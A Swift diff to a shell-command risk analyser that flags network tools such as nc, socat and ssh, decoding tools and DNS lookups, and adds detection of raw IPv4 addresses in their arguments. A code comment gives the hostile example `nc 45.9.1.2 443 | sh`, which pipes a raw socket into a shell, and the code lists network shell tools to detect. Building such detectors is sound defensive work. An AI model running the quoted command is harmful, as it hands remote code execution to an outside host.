@@ -26,8 +26,14 @@ extension ShellRun {
             return true
         case "certutil" where lowered.contains("-decode"), "base64", "xxd", "openssl", "uudecode", "gunzip", "zcat":
             emit(.useEncoding, at: head, anchor: anchor)
-        case "nc", "ncat", "netcat", "socat", "telnet", "ssh", "scp", "sftp", "ftp", "tftp", "rsync":
+        case "nc", "ncat", "netcat", "socat", "telnet":
+            // A raw socket: what it receives can be piped into a shell (`nc 45.9.1.2 443 | sh`).
             emit(.useNetwork, at: head, anchor: anchor)
+            rawAddresses(in: arguments, anchor: anchor)
+            return true
+        case "ssh", "scp", "sftp", "ftp", "tftp", "rsync":
+            emit(.useNetwork, at: head, anchor: anchor)
+            rawAddresses(in: arguments, anchor: anchor)
         case "nslookup", "dig", "host", "drill", "resolveip":
             emit(arguments.contains(where: \.isDynamic) ? .dnsExfiltration : .dnsLookup, at: head, anchor: anchor)
         case "ping", "ping6", "traceroute":
@@ -111,6 +117,15 @@ extension ShellRun {
         if written.contains(path) { emit(.writeExecute, at: head, anchor: anchor) }
         let (line, column) = position(head, anchor: anchor)
         steps.append(.runFile(file, interpreter, line: line, column: column))
+    }
+
+    /// A bare IPv4 address among a network command's arguments (`nc 45.9.1.2 443`, `user@45.9.1.2`); URLs are
+    /// already classified by the string signals of each word.
+    private mutating func rawAddresses(in arguments: [ShellToken], anchor: ShellToken?) {
+        for word in arguments where !word.text.contains("://") {
+            let host = word.text.split(separator: "@").last.map { $0.split(separator: ":").first ?? $0 } ?? ""
+            if URLSignals.isRemoteIPv4(String(host)) { emit(.urlRawIP, at: word, anchor: anchor) }
+        }
     }
 
     private func sawDownloadIn(_ arguments: [ShellToken]) -> Bool {
